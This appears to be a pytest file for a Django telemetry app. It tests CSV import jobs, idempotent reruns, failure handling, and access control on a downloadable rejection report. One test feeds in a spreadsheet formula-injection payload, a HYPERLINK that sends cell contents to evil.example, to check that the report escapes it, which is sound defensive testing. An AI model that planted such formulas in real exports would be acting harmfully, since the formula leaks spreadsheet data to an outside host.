"""Import jobs for the web upload path: progress in the job row, done once, a downloadable rejection report."""

from __future__ import annotations

import csv
import io

import pytest

from twinops.telemetry.models import HistoryImportJob
from twinops.telemetry.services import history_import_enqueue, history_import_job_run

pytestmark = pytest.mark.django_db(transaction=True)  # the worker claims the job on its own connection


def _job(line, tmp_path, text: str, user=None) -> HistoryImportJob:
    path = tmp_path / "upload.csv"
    path.write_text(text)
    return history_import_enqueue(line=line, path=path, filename="plant.csv", actor=user)


def test_an_import_job_is_queued_on_commit_records_its_result_and_is_not_redone(
    line, tmp_path, make_user, sample_count, sent_jobs
) -> None:
    user = make_user("data")
    job = _job(line, tmp_path, "timestamp,T,F\n2024-03-01T00:00:00Z,1,Bad\nnonsense,1,2\n", user)
    assert sent_jobs == [job.pk]
    assert history_import_job_run(job_id=job.pk) == "done"
    job.refresh_from_db()
    assert (job.status, job.progress, job.rows_done, job.rows_total, job.rejected) == ("done", 100.0, 2, 2, 2)
    assert job.result["samples_inserted"] == 2 and job.attempts == 1
    assert history_import_job_run(job_id=job.pk) == "skipped"  # a re-delivered task does nothing
    job.refresh_from_db()
    assert job.attempts == 1 and sample_count() == 2


def test_a_failed_job_keeps_the_problems_and_stores_nothing(line, tmp_path, sample_count) -> None:
    job = _job(line, tmp_path, "timestamp,pressure\n2024-03-01T00:00:00Z,1\n")
    assert history_import_job_run(job_id=job.pk) == "failed"
    job.refresh_from_db()
    assert job.status == "failed" and "wrong header" in job.error
    assert job.result["problems"][0]["column"] == "pressure" and sample_count() == 0


def test_the_rejection_report_downloads_as_csv_for_viewers_only(client, line, tmp_path, make_user) -> None:
    job = _job(line, tmp_path, "timestamp,T\n2024-03-01T00:00:00Z,Scan Timeout\nnonsense,1\n")
    history_import_job_run(job_id=job.pk)
    url = f"/api/imports/{job.pk}/rejections.csv"
    assert client.get(url).status_code == 302  # to the login page
    make_user("auditor", username="aud")
    client.login(username="aud", password="correct-horse-battery")
    response = client.get(url)
    assert response.status_code == 200 and response["Content-Type"].startswith("text/csv")
    rows = list(csv.reader(io.StringIO(response.content.decode())))
    assert rows == [
        ["row", "column", "reason"],
        ["2", "T", "stored as bad quality: Scan Timeout"],
        ["3", "timestamp", "not stored: unparseable timestamp 'nonsense'"],
    ]


def test_a_tag_name_a_spreadsheet_would_run_is_quoted_in_the_rejection_report(
    client, line, tmp_path, make_user
) -> None:
    formula = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
    quoted = formula.replace('"', '""')
    text = f'timestamp,tag,value\n2024-03-01T00:00:00Z,"{quoted}",1\n2024-03-01T00:00:00Z,"@SUM(1)",2\n'
    job = _job(line, tmp_path, text)
    history_import_job_run(job_id=job.pk)
    make_user("auditor", username="aud")
    client.login(username="aud", password="correct-horse-battery")
    rows = list(csv.reader(io.StringIO(client.get(f"/api/imports/{job.pk}/rejections.csv").content.decode())))
    assert [r[:2] for r in rows] == [["row", "column"], ["2", "'" + formula], ["3", "'@SUM(1)"]]
    assert rows[1][2].startswith("not stored: unknown tag")
